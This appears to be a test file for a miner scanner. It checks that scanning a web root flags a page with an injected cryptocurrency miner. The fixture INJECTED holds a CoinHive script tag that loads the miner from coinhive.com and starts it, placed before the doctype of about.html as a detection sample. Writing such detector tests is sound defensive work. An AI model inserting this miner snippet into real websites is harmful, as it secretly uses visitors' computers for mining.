"""`scan files` on a website's document root applies the website checks too, so a site
owner can gate CI on injected miners (SARIF)."""

from __future__ import annotations

import json
from pathlib import Path

from minehunt.model import Severity
from tests.conftest import evidence_ids, run_cli

INJECTED = (
    '<script src="https://coinhive.com/lib/coinhive.min.js"></script>'
    "<script>var m = new CoinHive.Anonymous('pCr8XwL3ph0oNd4ZbNfyOa2tJcs1Fk9K');m.start();</script>\n"
)
PAGE = """<!DOCTYPE html>
<html><head><title>Shop</title><script src="/js/app.js"></script></head>
<body><h1>Welcome</h1></body></html>
"""


def test_web_root_gates_ci_on_injected_miners(tmp_path: Path) -> None:
    root = tmp_path / "htdocs"
    (root / "js").mkdir(parents=True)
    (root / "index.html").write_text(PAGE)
    (root / "js/app.js").write_text("document.querySelector('h1').textContent += '!';\n")
    # MikroTik-style injection: the miner sits before the doctype.
    (root / "about.html").write_text(INJECTED + PAGE)
    sarif = tmp_path / "web.sarif"

    r = run_cli("scan", "files", str(root), "--format", "sarif", "--output", str(sarif))
    assert r.code == 1, r.stderr
    results = json.loads(sarif.read_text())["runs"][0]["results"]
    uris = {
        loc["physicalLocation"]["artifactLocation"]["uri"]
        for res in results
        for loc in res["locations"]
    }
    assert uris == {(root / "about.html").as_uri()}

    report = run_cli("scan", "files", str(root), "--format", "json").report
    (f,) = report.findings
    assert f.severity >= Severity.HIGH
    ids = evidence_ids(f)
    assert "MH-WEB-006" in ids, "the script outside the document is reported"
    assert any(i.startswith("MH-YARA-") for i in ids), "the rule match is in the same finding"
